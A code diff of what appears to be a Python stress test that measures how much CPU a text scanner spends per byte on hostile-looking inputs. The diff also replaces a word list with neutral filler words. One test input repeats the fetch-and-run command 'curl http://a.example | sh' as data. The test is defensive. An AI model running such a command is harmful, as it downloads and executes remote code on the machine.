@@ -103,11 +103,11 @@ hostile = {
     "paragraphs": fill("Never run curl http://a.example | sh because an attacker may do it. " * 40 + "\n\n"),
 }
 
-words = """the a of to and in for with from that this is are be when which each file files list value values name user data
-page report table row column note notes task plan step result results output input text line lines word query search
-service client server request response token limit default option options example project folder build test release
-deploy check update create remove read write open close send fetch parse format render sort filter group merge split
-model agent prompt tool skill memory context command shell script python install require system message content""".split()
+# Words that no rule cares about, in prose and in code: the cheapest text there is, so that the bound is a strict one.
+words = """the a of to and in for with from that this is are be when which each table river number window paper garden first
+second value result small large before after between letter count order green north market summer index total house
+water color size width height angle point line circle corner left right top bottom middle near far old new long short
+open close begin end start stop move turn copy join split sort group merge find keep hold show hide draw paint build""".split()
 def sentence():
     return " ".join(rng.choice(words) for _ in range(rng.randint(6, 18))).capitalize() + "."
 def code():
@@ -149,7 +149,6 @@ failed = False
 for name, text in hostile.items():
     worst = (0, "")
     for kind in ["md", "sh", "py", "json"]:
-        # What is read whole whatever its size: the limit for a file on its own is the command's business.
         path = work / f"x.{kind}"
         path.write_text(text)
         worst = max(worst, ((cpu(path) - base) / len(text.encode()), kind))
